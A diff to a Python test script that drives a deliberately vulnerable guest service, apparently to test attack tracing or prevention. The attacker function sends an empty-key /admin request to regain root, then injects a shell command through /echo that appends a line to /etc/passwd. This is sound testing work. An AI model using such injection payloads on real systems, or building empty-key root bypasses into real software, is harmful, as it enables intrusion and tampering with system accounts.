@@ -4,9 +4,10 @@
 One recorded session of the default guest: a cron-like loop rewrites
 /root/status every second; the deliberately vulnerable service of the
 prevention tests (tests/guest/vulnsrv.c, one child per connection, whose
-/echo?msg= runs `echo MSG` through popen) listens; two benign clients
-fetch pages from the guest's web server (busybox httpd), one before and
-one after the attack; the attacker's request injects a command that
+/echo?msg= runs `echo MSG` through popen, as uid 1000 unless /admin with
+an empty key gave root back) listens; two benign clients fetch pages from
+the guest's web server (busybox httpd), one before and one after the
+attack; the attacker's requests get root and inject a command that
 appends a line to /etc/passwd.  After the service started, the console
 shell (an ancestor of the attacker's shell) reads /root/status: a flow
 that time order must prune.
@@ -78,13 +79,21 @@ def fetch(port):
 
 
 def attack(g, port):
-    """The attacker: a command injected into vulnsrv's /echo.  Returns its
-    client port."""
+    """The attacker, on one keep-alive connection: vulnsrv's /admin with an
+    empty key (its handler, uid 1000, gets root back), then a command
+    injected into its /echo.  Returns its client port."""
     s = connect(port)
     cport = s.getsockname()[1]
     msg = urllib.parse.quote(f"x; echo '{LINE}' >> /etc/passwd")
-    s.sendall(f"GET /echo?msg={msg} HTTP/1.1\r\nHost: guest\r\nConnection: close\r\n\r\n"
+    s.sendall(f"GET /admin?key= HTTP/1.1\r\nHost: guest\r\n\r\n"
+              f"GET /echo?msg={msg} HTTP/1.1\r\nHost: guest\r\nConnection: close\r\n\r\n"
               .encode())
+    reply = b""
+    while chunk := s.recv(65536):
+        reply += chunk
+    s.close()
+    check(b"admin: uid 0" in reply and reply.count(b"200 OK") == 2,
+          f"vulnsrv's replies to the attacker: {reply!r}")
     for _ in range(120):
         out, _ = g.run("grep -c toor /etc/passwd")
         if out.strip().endswith("1"):
@@ -92,7 +101,6 @@ def attack(g, port):
         time.sleep(0.5)
     else:
         check(False, "the attacker's line never reached /etc/passwd")
-    s.close()
     return cport
 
 
